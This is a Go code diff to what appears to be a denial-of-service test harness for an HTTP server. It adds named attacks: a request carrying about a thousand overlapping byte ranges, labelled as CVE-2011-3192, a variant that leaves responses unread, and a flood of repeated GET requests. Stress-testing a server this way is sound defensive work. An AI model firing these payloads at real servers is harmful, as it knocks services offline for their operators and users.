@@ -20,6 +20,7 @@ var (
 	silentKinds    = []string{"nothing", "half a ClientHello", "ClientHello", "garbage"}
 	handshakeKinds = []string{"handshakes"}
 	unreadKinds    = []string{"100 windows of 0"}
+	rangeKinds     = []string{"ranges", "ranges that are not read"}
 )
 
 const (
@@ -141,6 +142,16 @@ var attacks = map[string]attack{
 		a.begun()
 		a.listen()
 	}},
+	"ranges": {protocol: overHTTP1, again: true, act: func(a *attacker) {
+		a.aside(a.listen, func() { a.pour(manyRanges) })
+	}},
+	"ranges that are not read": {protocol: overHTTP1, again: true, deaf: true, act: func(a *attacker) {
+		_ = a.say(manyRanges)
+		a.sip()
+	}},
+	"greed": {protocol: overHTTP1, again: true, act: func(a *attacker) {
+		a.aside(a.listen, func() { a.pour([]byte("GET / HTTP/1.1\r\nHost: a\r\n\r\n")) })
+	}},
 	"handshakes": {protocol: overHTTP1, again: true, act: func(a *attacker) { a.begun() }},
 }
 
@@ -168,6 +179,9 @@ func frames(write func(*http2.Framer)) []byte {
 func many(write func(*http2.Framer)) []byte { return bytes.Repeat(frames(write), 100) }
 
 var pings = many(func(f *http2.Framer) { _ = f.WritePing(false, [8]byte{1}) })
+
+// manyRanges asks for a file in overlapping parts (CVE-2011-3192).
+var manyRanges = []byte("GET /large.bin HTTP/1.1\r\nHost: a\r\nRange: bytes=0-" + strings.Repeat(",5-", 1000) + "\r\n\r\n")
 
 // block is the head of a request.
 func block(method, path string, fields ...string) []byte {
